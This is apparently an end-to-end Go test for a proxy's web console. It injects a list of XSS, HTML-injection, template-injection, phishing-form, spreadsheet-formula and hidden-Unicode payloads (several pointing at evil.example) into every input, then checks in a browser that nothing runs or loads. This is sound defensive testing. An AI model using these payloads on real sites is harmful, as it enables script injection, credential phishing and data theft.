package e2e

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"codex-proxy/internal/simulated"
)

// hostileTexts are what somebody writes who wants a page to run, load or hide
// something. What runs sets window.ran or the title.
var hostileTexts = []string{
	`<script>window.ran=1;document.title='run'</script>`,
	`<img src=x onerror="window.ran=1"><svg onload="window.ran=1"><animate onbegin=window.ran=1 attributeName=x dur=1s></svg>`,
	`<a href="javascript:window.ran=1" autofocus onfocus=window.ran=1>click</a> <details open ontoggle=window.ran=1>`,
	`[click](javascript:window.ran=1) ![pixel](http://evil.example/pixel.png) <http://evil.example/> http://evil.example/plain`,
	`</script></textarea></title></style></template></noscript></select><script>window.ran=1</script>`,
	`"><img src=x onerror=window.ran=1> ' onmouseover='window.ran=1' x=' ` + "` onfocus=window.ran=1 `",
	`{{.Viewer}} {{template "top"}} ${window.ran=1} <%= 7*7 %> #{7*7}`,
	`<style>*{background:url(http://evil.example/css)}</style><p style="background:url(http://evil.example/style);position:fixed;inset:0">over all</p>`,
	`<iframe src="data:text/html,<script>parent.ran=1</script>"></iframe><object data="data:text/html,x"></object><base href="http://evil.example/"><link rel=stylesheet href="http://evil.example/a.css">`,
	`<meta http-equiv=refresh content="0;url=http://evil.example/"><form action="http://evil.example/"><input name=credential><button formaction="javascript:window.ran=1">Sign in</button></form>`,
	`<!--<img src="--><img src=x onerror=window.ran=1>"> <math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>`,
	"```html\n<script>window.ran=1</script>\n```",
	`{"html":"<script>window.ran=1</script>","nested":"{\"a\":\"<img src=x onerror=window.ran=1>\"}"}`,
	`=HYPERLINK("http://evil.example/","click") __SECRET_aws_access_key_id_ABCDEFGHIJKLMNOP__`,
	"\u202egnp.exe\u202c \u2066isolated\u2069 zero\u200bwidth \ufeff tag\U000e0041 soft\u00adhyphen line\u2028separator",
	"\x1b[31mred\x1b]0;run\x07 nul\x00 del\x7f \u009b31m back\b\b\b\b over\rwritten",
}

// short is a hostile text for a name.
const shortHostile = `<img src=x onerror=window.ran=1>"'`

// harmless checks that nothing of what a page shows has become more than text.
func (b *browser) harmless(what string) {
	b.t.Helper()
	b.check(what)
	var found []string
	b.js(`(() => {
		const bad = []
		const unseen = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e0fff}]/u
		if (window.ran || !document.title.endsWith(" · codex-proxy")) bad.push("something ran, and the title is " + document.title)
		for (const e of document.querySelectorAll("*")) {
			const name = e.localName
			if (/^(iframe|object|embed|base|style|math|foreignobject|animate|set|audio|video|source)$/i.test(name)) bad.push("an element " + name)
			if (name === "script" && !e.src && e.type !== "application/json") bad.push("a script within the page")
			if (name === "meta" && e.httpEquiv) bad.push("a meta " + e.httpEquiv)
			for (const {name: key, value} of e.attributes) {
				if (/^on/i.test(key)) bad.push("an attribute " + key)
				if (key === "style" && !e.closest(".plot")) bad.push("a style " + value)
				if (key === "title" || key === "alt" || key === "aria-label") if (unseen.test(value)) bad.push("unseen characters in " + key + ": " + JSON.stringify(value))
				if (!/^(href|src|srcset|action|formaction|data|poster|background|xlink:href)$/.test(key) || e.matches("link[rel=icon]")) continue
				if (name === "img" && /^data:image\/(png|jpeg|gif|webp);base64,[A-Za-z0-9+\/=]+$/.test(value)) continue
				const to = new URL(value, location.href)
				if (to.origin !== location.origin || !(to.pathname + "/").startsWith("/console/")) bad.push(key + " leads to " + value)
			}
		}
		const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
		for (let node; (node = walker.nextNode());) if (unseen.test(node.data)) bad.push("unseen characters in " + node.parentElement.outerHTML.slice(0, 60) + ": " + JSON.stringify(node.data.slice(0, 200)))
		return bad.slice(0, 12)
	})()`, &found)
	for _, is := range found {
		b.t.Errorf("%s: %s", what, is)
	}
	var over float64
	b.js(`document.documentElement.scrollWidth - document.documentElement.clientWidth`, &over)
	if over > 1 {
		b.t.Errorf("%s can be scrolled sideways by %.0f", what, over)
	}
}

// shows checks that a page has texts as texts, seen or folded away.
func (b *browser) shows(what string, texts ...string) {
	b.t.Helper()
	var all string
	b.js(`document.querySelector("main").textContent.replace(/\s+/g, " ")`, &all)
	for _, text := range texts {
		if !strings.Contains(all, text) {
			b.t.Errorf("%s does not show %q:\n%.3000s", what, text, all)
		}
	}
}

// TestNothingThatAnybodyWroteRunsLoadsOrHidesAnything puts hostile texts wherever a
// client, a model, a tool, OpenAI, a roster or a person can write, and opens every page
// that shows them.
func TestNothingThatAnybodyWroteRunsLoadsOrHidesAnything(t *testing.T) {
	p := newProxy(t, simulated.Options{}, settingsFile(t, `
[[price]]
model = '<img src=x onerror=window.ran=1>'
from = 2026-01-01
standard = { input = "1", output = "2" }
`))
	if out, err := p.tries("console", "user", "add", shortHostile, "--role", "auditor"); err == nil || strings.Contains(out, "codexconsole_") {
		t.Errorf("somebody of a hostile name may sign in: %s", out)
	}
	const alice = "alice@example.com"
	token := p.developer(alice, "--name", "Alice "+hostileTexts[4], "--team", "team "+shortHostile)
	p.command("token", "issue", alice, "--label", "label "+hostileTexts[0])

	all := strings.Join(hostileTexts, "\n")
	huge := strings.Repeat("<b>wide</b>", 8_000)
	secret := "AKIA" + "Z7QGN4T2KXW3PLVD"
	picture := func(url string) map[string]any { return map[string]any{"type": "input_image", "image_url": url} }
	message := func(role string, parts ...any) map[string]any {
		return map[string]any{"type": "message", "role": role, "content": parts}
	}
	text := func(kind, text string) map[string]any { return map[string]any{"type": kind, "text": text} }
	encoded := func(text string) string { return base64.StdEncoding.EncodeToString([]byte(text)) }
	arguments := marshalled(t, map[string]any{"cmd": "the arguments " + all, "<script>window.ran=1</script>": all})
	body := map[string]any{
		"model": "model " + shortHostile + "\u202e\u200b", "stream": true, "instructions": "the instructions " + all, "prompt_cache_key": all,
		"tools": []any{map[string]any{"type": "function", "name": "tool " + shortHostile, "description": all, "parameters": map[string]any{}}},
		"input": []any{
			message("developer", text("input_text", "the developer's "+all)),
			message("user", text("input_text", "an earlier prompt "+all)),
			map[string]any{"type": "reasoning", "id": "rs_1", "summary": []any{text("summary_text", "the earlier reasoning "+all)}},
			map[string]any{"type": "function_call", "name": "shell " + shortHostile, "call_id": "call_1", "arguments": string(arguments)},
			map[string]any{"type": "function_call_output", "call_id": "call_1", "output": "the output " + all},
			map[string]any{"type": "custom_tool_call", "name": "apply_patch", "call_id": "call_2", "input": "*** Begin Patch\n*** Update File: " + shortHostile + "\n@@ " + shortHostile + "\n-the removed " + all + "\n+the added " + all + "\n*** End Patch"},
			map[string]any{"type": "custom_tool_call_output", "call_id": "call_2", "output": `{"output":` + string(marshalled(t, "the JSON output "+all)) + `}`},
			map[string]any{"type": "type " + shortHostile, all: all},
			message("role "+shortHostile, text("input_text", "somebody's "+all)),
			message("user", text("input_text", "the prompt "+all+"\n"+huge), text("type "+shortHostile, all)),
			message("user", text("input_text", "the pictures "+shortHostile),
				picture("data:image/svg+xml;base64,"+encoded(`<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran=1"><script>window.ran=1</script></svg>`)),
				picture("data:image/png;base64,"+encoded("<html><script>window.ran=1</script>")),
				picture("data:text/html;base64,"+encoded("<script>window.ran=1</script>")),
				picture(`data:image/png" onerror="window.ran=1;base64,`+encoded("x")),
				picture("http://evil.example/picture.png"), picture("javascript:window.ran=1"),
				map[string]any{"type": "input_file", "filename": shortHostile, "file_data": "data:text/html;base64," + encoded("<script>window.ran=1</script>")}),
			map[string]any{"type": "function_call_output", "call_id": "call_3", "output": `{"` + shortHostile[:len(shortHostile)-2] + `":"` + secret + `"}`},
		},
	}
	headers := map[string]string{
		"User-Agent": "client " + shortHostile + "\u202egnp.exe\u200b", "Session-Id": "session " + shortHostile + "\u202e", "Originator": "originator " + shortHostile,
		"X-Codex-Turn-Metadata": `{"` + shortHostile + `":"` + shortHostile + `"}`,
	}
	short := map[string]any{"model": body["model"], "stream": true, "input": "hello"}
	p.openai.Play(
		simulated.Answer{
			Text: "the answer " + all, Reasoning: "the reasoning " + all, Model: "answered " + shortHostile, ServiceTier: shortHostile,
			Calls: []simulated.Call{{Name: "called " + shortHostile, Arguments: string(arguments)}, {Name: "custom " + shortHostile, Input: "the input " + all}},
		},
		simulated.Answer{Fault: simulated.Fault{Status: 400, Type: shortHostile, Code: "code " + shortHostile, Message: "the error " + all}},
		simulated.Answer{Fault: simulated.Fault{Status: 503, Body: "the plain error " + all}},
		simulated.Fail("failed "+shortHostile, "the failure "+all),
		simulated.Answer{Fault: simulated.Fault{Status: 429, Type: "usage_limit_reached", Message: all, Header: http.Header{"X-Codex-Promo-Message": {"the promotion " + shortHostile}, "X-Request-Id": {"request " + shortHostile}}}},
	)
	p.asked(token, headers, body)
	for range 4 {
		p.asked(token, headers, short)
	}
	list := p.records(5)
	p.openai.Play(simulated.Stall("the answer that goes on "+all, 30))
	p.ask(token, headers, short)

	b := newBrowser(t, p.address)
	for _, status := range []string{"400", "403", "404"} {
		b.forgives(status)
	}
	open := func(path string, texts ...string) {
		t.Helper()
		b.visit(path)
		b.harmless(path)
		b.shows(path, texts...)
	}
	post := func(path, text string, texts ...string) {
		t.Helper()
		b.open(path)
		b.do(chromedp.SetValue("input[name=text]", text, chromedp.ByQuery))
		b.press("form.filter button", ".progress.ended, .notice")
		b.harmless(path + " for " + text)
		b.shows(path+" for "+text, texts...)
	}
	session := "/console/sessions/view?" + url.Values{"developer": {alice}, "session": {headers["Session-Id"]}}.Encode()
	record := func(n int) string { return "/console/records/" + list[n].ID }
	// everywhere are the pages that everybody has whose words they are, or who has given
	// a reason.
	everywhere := func() {
		t.Helper()
		open("/console/overview?by=model", "answered "+shortHostile, "model "+shortHostile)
		open("/console/live", "client "+shortHostile, "model "+shortHostile, "1 running")
		b.js(`document.getElementById("live-at").textContent = ""; document.getElementById("live-rows").replaceChildren()`, nil)
		b.until("the script has made the row", `document.querySelector("#live-rows tr")`)
		b.harmless("/console/live, by its script")
		b.shows("/console/live, by its script", "client "+shortHostile, "model "+shortHostile)
		open("/console/sessions", "answered <img")
		open(session, "the prompt <script>", "the answer <script>", "the reasoning <script>", "the instructions <script>", "the output <script>", "the JSON output <script>", "the removed <script>", "the added <script>",
			"the arguments <script>", "the input <script>", "called "+shortHostile, "shell "+shortHostile, "tool "+shortHostile, "the error <script>", "the failure <script>", "the plain error <script>",
			"somebody's <script>", "An image,", "not a PNG, JPEG, GIF or WebP", "[image, http://evil.example/picture.png]", `\u202egnp.exe`, `\x1b[31mred`, "session <img", "Turn 5")
		open("/console/records", "answered <img")
		open(record(0), "the prompt <script>", "client "+shortHostile, "originator "+shortHostile, "tier <img", "asked for model <img")
		post("/console/records/search", hostileTexts[4], "</title></style>", "hit")
		post("/console/records/origin", "the plain error", "the plain error <script>", "1 exchange said it")
		b.open("/console/findings")
		b.harmless("/console/findings")
		b.press("main tbody th a", ".facts")
		b.harmless("a finding")
		b.shows("a finding", "team "+shortHostile)
	}
	// further are the same pages with what can be asked of them.
	further := func() {
		t.Helper()
		open("/console/overview?by=team", "team "+shortHostile)
		open("/console/overview?"+url.Values{"by": {"model"}, "team": {"team " + shortHostile}, "model": {"answered " + shortHostile}}.Encode(), "answered "+shortHostile)
		open("/console/records?"+url.Values{"model": {shortHostile}, "session": {hostileTexts[4]}, "refusal": {hostileTexts[5]}, "developer": {hostileTexts[0]}}.Encode(), "No exchange matches")
		open("/console/findings?"+url.Values{"rule": {hostileTexts[5]}, "team": {hostileTexts[0]}, "developer": {hostileTexts[4]}}.Encode(), "No such secret")
		open(record(0)+"?whole=1", "an earlier prompt <script>", "the earlier reasoning <script>", "the developer's <script>", "type "+shortHostile)
		open(record(1), "OpenAI said: code <img", "the error <script>")
		open(record(2), "the plain error <script>")
		open(record(3), "the failure <script>")
		open(record(4), "the promotion <img")
		for n := range 4 {
			open(fmt.Sprintf("%s/item?side=response&n=%d", record(0), n), "<script>window.ran=1")
		}
		open(record(0)+"/item?side=request&n=11", "the prompt <script>", "<b>wide</b><b>wide</b>")
		open(record(0)+"/raw?side=request&at=65536", "<b>wide</b><b>wide</b>")
		open(record(0)+"/raw?side=response", "answered <img")
		post("/console/records/search", hostileTexts[9], `formaction="javascript:window.ran=1"`, "hit")
		post("/console/records/search", "gnp.exe", `\u202e`)
		post("/console/records/origin", "the promotion", "the promotion <img", "1 exchange said it")
		post("/console/records/origin", hostileTexts[5], "said it, of 4 exchanges")
		for _, path := range []string{ // with what somebody has made up
			"/console/records/" + url.PathEscape(hostileTexts[0]), "/console/findings/" + url.PathEscape(hostileTexts[0]), "/console/overview?by=" + url.QueryEscape(hostileTexts[0]),
			"/console/overview?zone=" + url.QueryEscape(hostileTexts[5]), "/console/sessions?from=" + url.QueryEscape(hostileTexts[5]), "/console/sessions/view?developer=" + alice + "&session=" + url.QueryEscape(hostileTexts[4]),
			record(0) + "/raw?side=" + url.QueryEscape(hostileTexts[0]), record(0) + "/item?side=request&n=" + url.QueryEscape(hostileTexts[0]), "/console/developers/" + url.PathEscape(shortHostile),
		} {
			open(path)
		}
	}

	b.signIn(p.administrator())
	b.visit(session)
	b.harmless("the question for a reason")
	reason := "the reason " + hostileTexts[4] + hostileTexts[5] + "\u202egnp.exe zero\u200bwidth"
	b.do(chromedp.SetValue(reasonBox, reason, chromedp.ByQuery))
	b.press(".stack button.main", ".replay.session")
	everywhere()
	further()
	b.open("/console/findings")
	b.press("main tbody th a", "form.mark")
	b.do(chromedp.Click("input[name=as][value=rotated]", chromedp.ByQuery), chromedp.SetValue("textarea[name=note]", "the note "+hostileTexts[4]+"\u202egnp.exe", chromedp.ByQuery))
	b.press("form.mark button.main", ".facts")
	b.harmless("a marked finding")
	b.shows("a marked finding", "the note </script>")
	open("/console/findings?mark=rotated", "aws-access-key-id")
	open("/console/developers", "Alice </script>", "team "+shortHostile)
	open("/console/developers?find="+url.QueryEscape(hostileTexts[4]), "Alice </script>")
	open("/console/developers/"+alice, "Alice </script>", "team "+shortHostile, "label <script>", "client "+shortHostile, "the reason </script>")
	open("/console/access", "the reason </script>")
	open("/console/settings", shortHostile[:len(shortHostile)-2])
	b.signOut()

	b.signIn(token)
	everywhere()
	open("/console/me", "Alice </script>", "the reason </script>", "label <script>")
	b.signOut()
	open("/console/sign-in?next=" + url.QueryEscape(`javascript:window.ran=1//"><script>`))
	b.signIn(token)
	if at, err := url.Parse(b.location()); err != nil || at.Host != p.address {
		t.Errorf("signing in led to %s", at)
	}
}
